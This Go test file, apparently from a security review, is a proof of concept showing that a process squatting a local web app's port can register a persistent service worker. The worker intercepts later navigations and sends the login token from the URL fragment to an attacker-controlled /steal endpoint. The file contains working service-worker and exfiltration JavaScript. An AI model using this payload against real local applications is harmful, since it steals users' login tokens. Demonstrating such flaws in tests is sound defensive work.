package webapp_test

import (
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/securejingle/securejingle/internal/browsertest"
	"github.com/securejingle/securejingle/internal/webapp"
)

// TestPoCPortSquatServiceWorker (review rvweb3): the same squat with a
// service worker, registered from a same-site iframe of the attacker's
// page on another port (http://127.0.0.1 is a secure context). It
// survives the squat and answers every later navigation of the app
// origin, whatever its path or query, so an unpredictable login path
// would not help; the real daemon never sees the navigation.
func TestPoCPortSquatServiceWorker(t *testing.T) {
	b := browsertest.Start(t, nil)
	stolen := make(chan string, 8)
	var appHost string
	collector := browsertest.Serve(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/steal":
			stolen <- r.URL.Query().Get("h")
		case "/":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprintf(w, `<!doctype html><iframe src="http://%s/reg"></iframe>`, appHost)
		}
	}))
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	appHost = l.Addr().String()
	squat := &httptest.Server{Listener: l, Config: &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/reg":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprintf(w, `<!doctype html><script>navigator.serviceWorker.register("/zz-sw.js", {scope: "/"}).then(r => navigator.serviceWorker.ready).then(() => fetch(%q + "/steal?h=registered", {mode: "no-cors"}))</script>`, collector)
		case "/zz-sw.js":
			w.Header().Set("Content-Type", "text/javascript")
			fmt.Fprintf(w, `self.addEventListener("install", e => self.skipWaiting());
self.addEventListener("activate", e => e.waitUntil(clients.claim()));
self.addEventListener("fetch", e => {
  if (e.request.mode !== "navigate") return;
  e.respondWith(new Response('<!doctype html><title>securejingle</title><script>fetch(%q + "/steal?h=" + encodeURIComponent(location.hash), {mode: "no-cors"})</script>', {headers: {"Content-Type": "text/html"}}));
});`, collector)
		}
	})}}
	squat.Start()
	tab := b.NewTab()
	browsertest.Open(t, tab, collector+"/")
	select {
	case h := <-stolen:
		if h != "registered" {
			t.Fatalf("got %q", h)
		}
	case <-time.After(15 * time.Second):
		t.Fatal("service worker not registered from the same-site iframe")
	}
	squat.Close()

	srv, err := webapp.New(webapp.Config{Listen: appHost, API: http.NotFoundHandler()})
	if err != nil {
		t.Fatal(err)
	}
	go srv.Serve()
	t.Cleanup(func() { srv.Close() })
	link, _ := srv.LoginURL()
	// Even an unpredictable path does not escape the worker's scope.
	link = strings.Replace(link, "/#token=", "/l/unpredictable-path?x=1#token=", 1)
	tab2 := b.NewTab()
	browsertest.Open(t, tab2, link)
	select {
	case h := <-stolen:
		if !strings.HasPrefix(h, "#token=") {
			t.Fatalf("got %q", h)
		}
		t.Logf("VULNERABLE: the squatter's service worker answered %s and stole %s", srv.Origin(), h)
	case <-time.After(10 * time.Second):
		t.Fatal("the real page was served")
	}
}
